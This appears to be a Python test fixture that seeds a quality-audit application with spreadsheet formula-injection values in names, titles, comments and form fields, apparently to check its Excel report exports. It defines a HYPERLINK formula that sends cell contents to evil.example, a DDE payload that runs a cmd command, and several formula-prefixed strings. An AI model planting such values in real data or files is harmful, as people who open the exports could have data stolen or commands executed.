"""A home in which everybody is called like a formula, and everything has such a title."""

from datetime import UTC, datetime, timedelta

from rapport.criteria import Decision, parse_criteria
from rapport.records import Customer, Interaction, Turn
from rapport.warehouse import Warehouse

LINK = '=HYPERLINK("http://evil.example/?"&A1,"here")'
SUM, PLUS, MINUS, TAB, RETURN = "@SUM(1+9)*cmd|' /C calc'!A0", "+491", "-2+3", "\t=1+1", "\r=1+2"
MARKS = ("evil.example", "cmd|", "+491", "-2+3", "=1+1", "=1+2")
CRITERIA = f"""\
criteria: formulas
version: 1
title: {LINK!r}
factors:
  timing:
    title: "{SUM}"
    weight: 1
    elements:
      greeting: {{weight: 1, max: 10, title: '{LINK.replace("'", "''")}',
        rules: [{{id: hello, points: 10, text: "{PLUS}", example: "{MINUS}"}}]}}
      answer: {{weight: 1, max: 5, title: "{MINUS}", text: "=1+1",
        rules: [{{id: whole, points: 5, text: "=1+2"}}]}}
"""
START = datetime(2026, 4, 1, 9, tzinfo=UTC)


def talks():
    """Forty conversations of two teams and two agents in each."""
    for number in range(40):
        team, agent = ((LINK, SUM)[number % 2], (PLUS, MINUS)[number // 2 % 2])
        turns = (Turn("customer", "=1+1 where is it?"), Turn("agent", "+491 is our number", person=agent))
        at = START + timedelta(hours=6 * number)
        yield Interaction(
            f"={number}+1", channel=TAB, team=team, agent_id=f"{agent}{team[:1]}", agent_name=RETURN,
            concern=MINUS, touchpoint=RETURN, subject=LINK, customer_id=f"@k{number % 7}", started_at=at,
            turns=turns, ended_at=at + timedelta(minutes=9),
        )  # fmt: skip


def fill(home, everything):
    """Conversations, a sample with sheets, scores in the warehouse, a schema, an answer, a shop."""
    from rapport.program.audits.plain import Submission
    from rapport.program.audits.selectors import assigned
    from rapport.program.audits.services import evaluations_submit
    from rapport.program.judging.models import Dispute, Session
    from rapport.program.people.actor import TERMINAL
    from rapport.program.people.models import User
    from rapport.work.publish import publish
    from rapport.work.report import write_reports
    from rapport.work.sample import draw_sample

    for name, formula in (("second", LINK), ("associate", SUM), ("qa_lead", "=1+1"), ("shopper", PLUS)):
        User.objects.filter(name=name).update(name=formula)
    Session.objects.update(title=LINK)
    Dispute.objects.update(text=SUM)
    with Warehouse(home.warehouse_path).write() as writer:
        writer.upsert("customers", [Customer(f"@k{number}", name=LINK) for number in range(7)])
        writer.upsert("interactions", list(talks()))
    criteria = parse_criteria(CRITERIA, "formulas.yaml")
    file = home.root / "criteria" / "formulas.yaml"
    file.write_text(CRITERIA, encoding="utf-8")
    people = ("=Ann", "@Bob")
    draw_sample(home, by=("team",), size=24, double=0.5, seed=4, evaluators=people, minimum=1, criteria=file,
                name="spring", bar_own_team=False)  # fmt: skip
    for place, name in enumerate(people):
        submissions = [
            Submission(
                one.interaction_id,
                name,
                {
                    "greeting": Decision({"hello": (number + place) % 2}, comment=LINK),
                    "answer": Decision({"whole": number % 2}, comment=TAB),
                },
            )
            for number, one in enumerate(assigned(TERMINAL, "spring", name))
        ]
        evaluations_submit(TERMINAL, criteria, submissions)
    publish(home)
    write_reports(home, audiences=("executive", "manager"), formats=("xlsx",))
    return pages(everything)


def pages(everything):
    """What is made by forms; → the addresses of what was made."""
    admin = everything.clients["administrator"]
    answer = {
        "title": LINK,
        "element": ["greeting"],
        "outline": PLUS,
        "talking_points": SUM,
        "checklist": MINUS,
    }
    admin.post("/audit/answers/new/", {**answer, "publish": "1"})
    admin.post("/settings/", {"name": SUM, "time_zone": "Europe/Berlin"})
    admin.post("/audit/shops/personas", {"name": LINK, "story": SUM, "act": "save", "id": 0})
    shop = {
        "title": LINK, "first_day": "2026-03-23", "last_day": "2026-04-05", "hour_from": "9", "hour_to": "17",
        "weekdays": ["0"], "channels": f"{PLUS}\n{SUM}", "sites": f"{LINK}\n{MINUS}", "fee": "5",
        "currency": "eur",
    }  # fmt: skip
    plan = admin.post("/audit/shops/new", shop)["Location"]
    persona = max(one.id for one in admin.get("/audit/shops/personas").context["personas"])
    admin.post(f"{plan}/act", {"act": "task", "title": SUM, "persona": persona, "ask": "Return it"})
    drawn = {"act": "draw", "visits": "4", "shoppers": [everything.ids["shopper"]], "seed": "7"}
    assert admin.post(f"{plan}/act", drawn).status_code == 302
    visit = everything.clients["shopper"].get("/audit/shops/").context["mine"][0]
    told = {"happened_at": "2026-03-23T10:00", "minutes": "12", "team": LINK, "agent": SUM, "act": "send",
            "transcript": "Agent: Hello", "expenses": "1"}  # fmt: skip
    sent = everything.clients["shopper"].post(f"/audit/shops/visits/{visit.id}", told)
    assert sent.status_code == 302, sent.content
    schema = {"title": LINK, "looked": "1", "way": "data", "concern": ["concern"], "touchpoint": ["channel"]}
    number = admin.post("/audit/schema/new", schema)["Location"].rsplit("/", 1)[1]
    return {"plan": plan, "schema": f"/audit/schema/versions/{number}"}
